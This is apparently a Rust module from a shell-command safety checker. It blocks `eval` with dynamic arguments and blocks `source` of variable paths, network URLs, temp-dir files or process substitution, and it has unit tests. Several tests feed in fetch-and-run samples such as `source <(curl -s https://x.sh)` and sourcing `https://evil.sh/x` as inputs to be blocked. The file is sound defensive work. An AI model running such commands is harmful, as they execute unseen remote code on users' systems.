//! `eval` and `source`/`.` rules.
//!
//! `eval` is blocked the moment any argument carries dynamic content, since
//! whatever the variables expand to is what actually runs. `source` is
//! blocked for paths we cannot vouch for: variables, network URLs, temp
//! dirs (a favorite drop location for installers), and process
//! substitution. Static local paths are allowed.

use regex::Regex;
use std::collections::HashMap;
use std::sync::LazyLock;

use super::Block;

/// `source <(...)` / `. <(...)` — must be caught on raw text because the
/// word splitter destroys the `<(` syntax.
static SOURCE_PROCESS_SUBSTITUTION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:^|\s)(?:source|\.)\s+<\(").unwrap());

const REASON_EVAL_DYNAMIC: &str =
    "eval with variable or command substitution executes content that cannot \
     be inspected statically.";
const REASON_SOURCE_VARIABLE: &str =
    "source with a variable path executes a file chosen at runtime.";
const REASON_SOURCE_URL: &str = "Sourcing a network URL executes remote code unseen.";
const REASON_SOURCE_TMP: &str =
    "Sourcing a file from a temp dir executes content that anything on the \
     system may have written.";
const REASON_SOURCE_PROCESS_SUB: &str =
    "source with process substitution executes the output of another command.";

fn is_dynamic(token: &str) -> bool {
    token.contains('$') || token.contains('`')
}

/// Raw-text check that must run before tokenization.
pub fn scan_raw_source(segment: &str) -> Option<Block> {
    SOURCE_PROCESS_SUBSTITUTION.is_match(segment).then(|| Block {
        reason: REASON_SOURCE_PROCESS_SUB.to_string(),
        segment: segment.to_string(),
    })
}

pub fn analyze_eval(args: &[String], segment: &str) -> Option<Block> {
    args.iter().any(|a| is_dynamic(a)).then(|| Block {
        reason: REASON_EVAL_DYNAMIC.to_string(),
        segment: segment.to_string(),
    })
}

pub fn analyze_source(
    args: &[String],
    env: &HashMap<String, String>,
    tmpdir: Option<&str>,
    segment: &str,
) -> Option<Block> {
    let path = args.iter().find(|a| !a.starts_with('-'))?;
    let lower = path.to_lowercase();

    let reason = if is_dynamic(path) {
        Some(REASON_SOURCE_VARIABLE)
    } else if lower.starts_with("http://") || lower.starts_with("https://")
        || lower.starts_with("ftp://")
    {
        Some(REASON_SOURCE_URL)
    } else if in_temp_dir(path, env, tmpdir) {
        Some(REASON_SOURCE_TMP)
    } else {
        None
    };

    reason.map(|r| Block {
        reason: r.to_string(),
        segment: segment.to_string(),
    })
}

fn in_temp_dir(path: &str, env: &HashMap<String, String>, tmpdir: Option<&str>) -> bool {
    let under = |base: &str| {
        let base = base.trim_end_matches('/');
        path == base || path.starts_with(&format!("{base}/"))
    };
    if under("/tmp") || under("/var/tmp") {
        return true;
    }
    match env.get("TMPDIR").map(String::as_str).or(tmpdir) {
        Some(dir) if !dir.is_empty() => under(dir),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toks(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| (*w).to_string()).collect()
    }

    #[test]
    fn test_eval_dynamic_blocked() {
        assert!(analyze_eval(&toks(&["$CMD"]), "eval").is_some());
        assert!(analyze_eval(&toks(&["$(curl", "x)"]), "eval").is_some());
        assert!(analyze_eval(&toks(&["`date`"]), "eval").is_some());
    }

    #[test]
    fn test_eval_static_allowed() {
        assert!(analyze_eval(&toks(&["ls", "-la"]), "eval").is_none());
        assert!(analyze_eval(&[], "eval").is_none());
    }

    #[test]
    fn test_source_variable_blocked() {
        let env = HashMap::new();
        assert!(analyze_source(&toks(&["$SCRIPT"]), &env, None, "source").is_some());
    }

    #[test]
    fn test_source_url_blocked() {
        let env = HashMap::new();
        let b = analyze_source(&toks(&["https://evil.sh/x"]), &env, None, "source").unwrap();
        assert!(b.reason.contains("network"));
    }

    #[test]
    fn test_source_temp_blocked() {
        let env = HashMap::new();
        assert!(analyze_source(&toks(&["/tmp/setup.sh"]), &env, None, "source").is_some());
        assert!(analyze_source(&toks(&["/var/tmp/x.sh"]), &env, None, "source").is_some());
    }

    #[test]
    fn test_source_context_tmpdir_blocked() {
        let env = HashMap::new();
        let b = analyze_source(
            &toks(&["/run/user/tmp/x.sh"]),
            &env,
            Some("/run/user/tmp"),
            "source",
        );
        assert!(b.is_some());
    }

    #[test]
    fn test_source_static_local_allowed() {
        let env = HashMap::new();
        assert!(analyze_source(&toks(&["./env.sh"]), &env, None, "source").is_none());
        assert!(analyze_source(&toks(&["~/.bashrc"]), &env, None, "source").is_none());
        assert!(analyze_source(&toks(&[]), &env, None, "source").is_none());
    }

    #[test]
    fn test_scan_raw_process_substitution() {
        assert!(scan_raw_source("source <(curl -s https://x.sh)").is_some());
        assert!(scan_raw_source(". <(wget -qO- https://x.sh)").is_some());
        assert!(scan_raw_source("source ./env.sh").is_none());
        // A dot ending a word is not the dot builtin.
        assert!(scan_raw_source("python x. <(y)").is_none());
    }
}
